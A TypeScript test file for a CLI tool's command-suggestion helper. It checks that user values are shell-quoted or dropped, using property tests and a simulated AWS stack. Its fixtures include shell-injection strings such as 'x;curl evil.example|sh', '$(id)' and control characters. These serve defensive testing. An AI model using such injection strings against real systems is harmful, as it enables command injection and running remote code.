import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import fc from 'fast-check';
import ts from 'typescript';
import { describe, expect, it, test } from 'vitest';
import type { Dispatch } from '../../src/commands/cli.ts';
import { buildProgram } from '../../src/commands/program.ts';
import {
  as,
  awsCli,
  commandFor,
  flagged,
  type Given,
  type Kind,
  kinds,
  noteProfile,
  salesreport,
  withGiven,
} from '../../src/suggest.ts';
import { runs } from '../helpers/sampled.ts';
import { pipelineOn, silent, simulatedAws } from '../helpers/simulated-stack.ts';
import { fakePipeline, type } from './typed.ts';

const root = resolve(import.meta.dirname, '../..');

/** A value of each kind, as it could stand in a message. */
const good: Record<Kind, string> = {
  stack: 'trial',
  region: 'eu-west-1',
  profile: "the shop's",
  file: '/home/ann/my settings.yaml',
  resource: 'host.cli',
  awsId: 'i-0123456789abcdef0',
  arn: 'arn:aws:sns:eu-west-1:123456789012:salesAnalysisReportTopic:0a1b',
  account: '123456789012',
  address: "o'brien+sales@example.com",
  time: '2026-11-24T16:00',
  code: 'L-F678F1CE',
  number: '12',
  verb: 'provision',
};

const hostile = [
  'x;curl evil.example|sh',
  '$(id)',
  '`id`',
  "a'b\nc",
  '-rf',
  '--yes',
  'a\tb',
  'a\u001b[2Jb',
  'a\u202eb',
  '',
  ' ',
  'x\u0000',
  '"',
  '\u009b',
];

/** The words that a shell makes of a line, where it does nothing but that. */
const words = (line: string): string[] =>
  execFileSync('bash', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8', cwd: '/' })
    .split('\0')
    .slice(0, -1);

/** What the tool would do at a command line, as the real tree of commands reads it. */
async function read(
  argv: readonly string[],
): Promise<{ verb: string; args: string[]; options: Record<string, unknown> }> {
  let seen: { verb: string; args: string[]; options: Record<string, unknown> } | undefined;
  const act: Dispatch = () =>
    async function (...given) {
      const path: string[] = [];
      for (let command = this; command.parent; command = command.parent) path.unshift(command.name());
      seen = {
        verb: path.join(' '),
        args: given.slice(0, -2).flat().filter(Boolean) as string[],
        options: this.optsWithGlobals(),
      };
    };
  await buildProgram(act, { out: () => {}, err: () => {} }).parseAsync([...argv], { from: 'user' });
  return seen!;
}

/** Every tagged template in the sources, and every other text with a command in it. */
function sources() {
  const tags: { tag: string; parts: string[]; values: string[]; at: string }[] = [];
  const raw: string[] = [];
  const verbs = buildProgram((() => async () => {}) as Dispatch, { out: () => {}, err: () => {} }).commands.map(
    command => command.name(),
  );
  const isCommand = new RegExp(
    String.raw`\bsalesreport (${verbs.join('|')})\b|\baws (ec2|ec2-[a-z-]+|ssm|sns|lambda|iam|s3|s3api|service-quotas|sts|logs|events|scheduler|configure(?! list-profiles)) [a-z]`,
  );
  for (const file of readdirSync(resolve(root, 'src'), { recursive: true, encoding: 'utf8' }).map(
    name => `src/${name}`,
  )) {
    // The reference is a page and the set-up of a host a script, and neither a message; so are, further down, the
    // demo's headings and the examples below the help.
    if (
      !file.endsWith('.ts') ||
      ['src/settings/reference.ts', 'src/provision/resources/user-data.ts'].includes(file) ||
      file.startsWith('src/simulator/')
    )
      continue;
    const source = ts.createSourceFile(file, readFileSync(resolve(root, file), 'utf8'), ts.ScriptTarget.Latest, true);
    const visit = (node: ts.Node): void => {
      const at = `${file}:${source.getLineAndCharacterOfPosition(node.getStart()).line + 1}`;
      if (ts.isTaggedTemplateExpression(node)) {
        const tag = ts.isCallExpression(node.tag) ? node.tag.expression.getText() : node.tag.getText();
        if (['salesreport', 'awsCli', 'flagged', 'commandFor'].includes(tag)) {
          const { template } = node;
          const parts = ts.isNoSubstitutionTemplateLiteral(template)
            ? [template.text]
            : [template.head.text, ...template.templateSpans.map(({ literal }) => literal.text)];
          const values = ts.isNoSubstitutionTemplateLiteral(template)
            ? []
            : template.templateSpans.map(({ expression }) => expression.getText());
          tags.push({ tag, parts, values, at });
          return;
        }
      }
      if (ts.isCallExpression(node) && /\.?(examples|chapter)$/.test(node.expression.getText().split('\n').at(-1)!)) {
        ts.forEachChild(node.expression, visit);
        return;
      }
      if (
        (ts.isStringLiteralLike(node) || ts.isTemplateHead(node) || ts.isTemplateMiddleOrTemplateTail(node)) &&
        isCommand.test(node.text)
      )
        raw.push(`${at}: ${node.text.slice(0, 100)}`);
      ts.forEachChild(node, visit);
    };
    visit(source);
  }
  return { tags, raw };
}

const kindIn = (expression: string): Kind => /\bas\.([a-zA-Z]+)\(/.exec(expression)![1] as Kind;
const strings = (parts: readonly string[]) =>
  Object.assign([...parts], { raw: parts }) as unknown as TemplateStringsArray;

describe('the sources', () => {
  const { tags, raw } = sources();

  it('write no command but by the one helper', () => expect(raw).toEqual([]));

  test.each(tags.filter(({ tag }) => tag === 'salesreport' || tag === 'commandFor'))(
    'suggest what the tool takes: $parts at $at',
    async ({ parts, values }) => {
      const given = { stack: 'trial', region: 'eu-west-1', profile: 'a b', settings: 'my shop.yaml' };
      const line = withGiven(given, () =>
        salesreport(strings(parts), ...values.map(one => as[kindIn(one)](good[kindIn(one)]))),
      );
      const [program, ...argv] = words(
        line.replaceAll(/\bLINK\b/g, 'a-link').replaceAll('NAME@HOST', 'ann@example.com'),
      );
      expect(program).toBe('salesreport');
      expect((await read(argv)).options).toMatchObject(given);
    },
  );

  test.each(tags.filter(({ tag }) => tag === 'awsCli'))(
    'name service, operation and region of the AWS CLI: $parts at $at',
    ({ parts }) => {
      expect(parts[0]).toMatch(/^[a-z0-9-]+( [a-z-]+)? --(region|region-name|profile) $|^configure [a-z-]+$/);
      // What is asked of a region names it, since the AWS CLI may have another.
      if (/^(ec2|ssm|sns|lambda|service-quotas|logs)/.test(parts[0]!)) expect(parts[0]).toMatch(/ --region $/);
    },
  );

  test.each(tags.filter(({ tag }) => tag === 'flagged'))('name flags that there are: $parts at $at', ({ parts }) => {
    const program = buildProgram((() => async () => {}) as Dispatch, { out: () => {}, err: () => {} });
    const known = [program, ...program.commands].flatMap(({ options }) => options.map(({ long }) => long));
    expect(known).toContain(parts[0]!.trim());
  });
});

describe('a value', () => {
  test.each(Object.entries(good) as [Kind, string][])('of the kind %s reaches the command whole', (kind, text) => {
    expect(words(salesreport`status --some ${as[kind](text)}`)).toEqual(['salesreport', 'status', '--some', text]);
  });

  test.each(Object.keys(kinds) as Kind[])('that is no %s is not shown: its flag is named without it', kind => {
    // A person may call a profile or a file almost anything: it is quoted then.
    const refused = ['profile', 'file'].includes(kind) ? hostile.filter(text => /^-|^\s*$|\p{C}/u.test(text)) : hostile;
    for (const text of refused) {
      expect(salesreport`teardown --some ${as[kind](text)} --other`).toBe('salesreport teardown --other (add --some)');
      expect(awsCli`ec2 start-instances --region ${as.region('eu-west-1')} --some ${as[kind](text)}`).toBe(
        'aws ec2 start-instances --region eu-west-1 (add --some)',
      );
      expect(flagged`--some ${as[kind](text)}`).toBe('--some');
      expect(salesreport`subscribe email ${as[kind](text)}`).toMatch(/^salesreport subscribe email [A-Z@]+$/);
    }
  });

  test.each(['x;curl evil.example|sh', '$(id)', '`id`', "a'b", '"', 'a b', 'Jürgen/日本.yaml'])(
    'as odd as %s is one word for a shell',
    text => {
      expect(words(salesreport`status --some ${as.file(text)}`)).toEqual(['salesreport', 'status', '--some', text]);
    },
  );

  test('of any letters is one word for a shell, or is not shown', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.string({ unit: fc.constantFrom(...'a \'"`$;|&(){}[]<>*?!#~\\\n-@/='), maxLength: 12 }),
    );
    fc.assert(
      fc.property(text, fc.constantFrom(...(Object.keys(kinds) as Kind[])), (value, kind) => {
        const line = salesreport`status --some ${as[kind](value)}`;
        if (line === 'salesreport status (add --some)') return;
        expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
        // As POSIX reads it: what is not plain stands between single quotes.
        const [, shown = ''] = /^salesreport status --some (.*)$/.exec(line)!;
        expect(shown).toMatch(/^([A-Za-z0-9_@%+=:,./-]+|('[^']*'(\\'(?='))?)+)$/);
        expect(shown.replaceAll("'\\''", '\0').replaceAll("'", '').replaceAll('\0', "'")).toBe(value);
        expect(value.startsWith('-')).toBe(false);
      }),
      runs(2_000),
    );
  });
});

describe('what was given', () => {
  const given: Given = { stack: 'trial', region: 'eu-west-1', profile: 'a b', settings: './shop.yaml' };

  it('is repeated, and nothing else is', () => {
    expect(salesreport`provision`).toBe('salesreport provision');
    expect(withGiven(given, () => salesreport`provision`)).toBe(
      "salesreport provision --stack trial --region eu-west-1 --profile 'a b' --settings ./shop.yaml",
    );
    expect(withGiven({ stack: 'trial' }, () => salesreport`provision`)).toBe('salesreport provision --stack trial');
  });

  it('gives way to what the command names itself', () => {
    expect(withGiven({ stack: 'trial', profile: 'p' }, () => salesreport`teardown --stack ${as.stack('other')}`)).toBe(
      'salesreport teardown --stack other --profile p',
    );
  });

  it('is named without its value where that cannot be shown', () => {
    expect(withGiven({ profile: '$(id)\n', settings: '-x' }, () => salesreport`status`)).toBe(
      'salesreport status (add --profile and --settings)',
    );
  });

  it('holds through everything that a command waits for, and for it alone', async () => {
    const later = (stack: string) =>
      withGiven({ stack }, async () => {
        await new Promise(done => setImmediate(done));
        return salesreport`status`;
      });
    expect(await Promise.all([later('one'), later('two')])).toEqual([
      'salesreport status --stack one',
      'salesreport status --stack two',
    ]);
  });

  it('reaches the AWS CLI as its profile, also one that only the settings name', () => {
    const command = () => awsCli`sns unsubscribe --region ${as.region('eu-west-1')}`;
    expect(withGiven(given, command)).toBe("aws sns unsubscribe --region eu-west-1 --profile 'a b'");
    const named = withGiven({}, () => {
      noteProfile('shop');
      return command();
    });
    expect(named).toBe('aws sns unsubscribe --region eu-west-1 --profile shop');
  });

  it('does not count in what a mail says, which names its own stack', () => {
    expect(withGiven(given, () => commandFor('salesreport')`history`)).toBe('salesreport history');
    expect(withGiven(given, () => commandFor('shop')`history`)).toBe('salesreport history --stack shop');
    expect(commandFor('$(id)')`history`).toBe('salesreport history (add --stack)');
  });
});

describe('the tool', () => {
  test('repeats the flags of a command in what it advises', async () => {
    const flags = '--stack trial --region eu-west-1 --profile shop --settings /dev/null';
    const empty = fakePipeline({
      status: async () => ({
        resources: [],
        subscribers: [],
        moreSubscribers: 0,
        operators: [],
        moreOperators: 0,
        strangers: [],
        notes: [],
        healthy: false,
      }),
    });
    const { stdout } = await type(`status ${flags}`, empty);
    expect(stdout.replaceAll(/\s+/g, ' ')).toContain(`salesreport provision ${flags} builds it`);
    const { stdout: told } = await type(`provision --yes ${flags}`);
    expect(told.replaceAll(/\s+/g, ' ')).toContain(`salesreport run ${flags}`);
  });

  test('takes what the environment says as said', async () => {
    const env = { SALESREPORT_STACK: 'trial', AWS_REGION: 'eu-west-1', AWS_PROFILE: 'shop' };
    const { stdout } = await type('provision --yes', { env });
    expect(stdout).toContain('salesreport run for a report');
  });

  test.each(['x;curl evil.example|sh', '$(id)', '`id`', "x' --yes '", '--yes', 'X'])(
    'suggests no command with the foreign tag %s in it',
    async value => {
      const aws = simulatedAws();
      const tags = { 'salesreport:stack': value, 'salesreport:region': 'eu-west-1', 'salesreport:resource': 'vpc' };
      const Tags = Object.entries(tags).map(([Key, Value]) => ({ Key, Value }));
      await aws.answer('ec2', 'CreateVpc', {
        CidrBlock: '10.0.0.0/16',
        TagSpecifications: [{ ResourceType: 'vpc', Tags }],
      });
      const { stacks } = await (await pipelineOn(aws)).sweep(silent);
      expect(stacks.map(({ stack, removedBy }) => [stack, removedBy])).toEqual([
        [value, 'salesreport teardown --region eu-west-1 (add --stack)'],
      ]);
    },
  );
});
